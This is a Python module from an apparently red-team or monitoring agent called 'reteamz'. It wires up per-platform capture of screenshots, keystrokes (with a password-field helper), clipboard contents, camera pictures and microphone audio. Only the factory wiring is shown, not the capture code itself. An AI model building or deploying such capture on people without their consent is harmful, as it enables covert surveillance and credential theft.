"""The sources of a session, by platform. What one needs is imported when it is opened, not before: most agents take no pictures."""

from __future__ import annotations

import sys
from collections.abc import Callable, Mapping

from reteamz.agent.desktop.base import Clipboard, Copied, Keys, Screens, Typed
from reteamz.agent.records.capture import Open, Source
from reteamz.agent.records.wanted import Sink
from reteamz.agent.samples import Clock
from reteamz.wire.batch import SealedKind


def session_sources(now: Clock) -> Mapping[SealedKind, Open]:
    """Return what opens each kind in the session that this process belongs to."""
    platform = str(sys.platform)
    if platform == "win32":
        from reteamz.agent.desktop import windows_open

        return _sources(windows_open.screens, windows_open.keys, windows_open.clipboard, now)
    if platform == "darwin":
        from reteamz.agent.desktop import macos_open

        return _sources(macos_open.screens, macos_open.keys, macos_open.clipboard, now)
    return x11_sources(None, now)


def x11_sources(display: str | None, now: Clock) -> Mapping[SealedKind, Open]:
    """Return what opens each kind on a display, as in DISPLAY."""

    def screens() -> Screens:
        from reteamz.agent.desktop.x11_screens import X11Screens

        return X11Screens(display)

    def keys(typed: Typed) -> Keys:
        from reteamz.agent.desktop.passwords import password_fields
        from reteamz.agent.desktop.x11_keys import X11Keys

        return X11Keys(display, typed, password_fields())

    def clipboard(copied: Copied) -> Clipboard:
        from reteamz.agent.desktop.x11_clipboard import X11Clipboard

        return X11Clipboard(display, copied)

    return _sources(screens, keys, clipboard, now)


def _sources(
    screens: Callable[[], Screens],
    keys: Callable[[Typed], Keys],
    clipboard: Callable[[Copied], Clipboard],
    now: Clock,
) -> Mapping[SealedKind, Open]:
    """Return what opens each kind of a platform; camera and microphone are the same everywhere."""

    def screenshot(sink: Sink) -> Source:
        from reteamz.agent.records.screens import Screenshots

        return Screenshots(screens(), sink)

    def text(sink: Sink) -> Source:
        from reteamz.agent.records.typing import Typing

        return Typing(keys, sink, now)

    def copies(sink: Sink) -> Source:
        from reteamz.agent.records.copying import Copying

        return Copying(clipboard, sink, now)

    return {
        "screenshot": screenshot, "text": text, "clipboard": copies, "camera": camera_source(), "sound": sound_source,
    }  # fmt: skip


def camera_source(device: int | str = 0) -> Open:
    """Return what opens a camera, by number or path."""

    def opened(sink: Sink) -> Source:
        from reteamz.agent.desktop.camera import OpenCvCamera
        from reteamz.agent.records.camera import CameraPictures

        return CameraPictures(OpenCvCamera(device), sink)

    return opened


def sound_source(sink: Sink) -> Source:
    """Open the microphone."""
    from reteamz.agent.desktop.microphone import PortAudioMicrophone
    from reteamz.agent.records.sound import SoundPieces

    return SoundPieces(PortAudioMicrophone(), sink)
